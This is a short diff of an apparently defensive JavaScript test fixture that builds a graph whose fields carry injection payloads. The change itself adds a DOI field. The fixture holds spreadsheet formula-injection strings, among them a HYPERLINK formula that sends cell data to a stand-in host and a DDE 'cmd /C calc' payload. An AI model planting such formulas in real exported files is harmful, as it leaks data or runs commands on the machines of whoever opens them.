@@ -15,7 +15,7 @@ const FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+cmd|\' /C calc\'
 function injectionGraph(name = 'plain') {
   return graphFrom(
     {
-      sources: [{ id: 'src', kind: 'primary_paper', title: `${DIRECTIVE} title`, authors: FORMULAS[0], year: 2020 }],
+      sources: [{ id: 'src', kind: 'primary_paper', title: `${DIRECTIVE} title`, authors: FORMULAS[0], year: 2020, doi: '10.1000/fixture' }],
       modules: [{ id: 'm', title: 'M', summary: 'S' }],
       nodes: [
         { id: 'a', label: FORMULAS[0], category: 'small_molecule', description: FORMULAS[1], synonyms: FORMULAS.slice(2), identifiers: ['CHEBI:1'], module: 'm' },
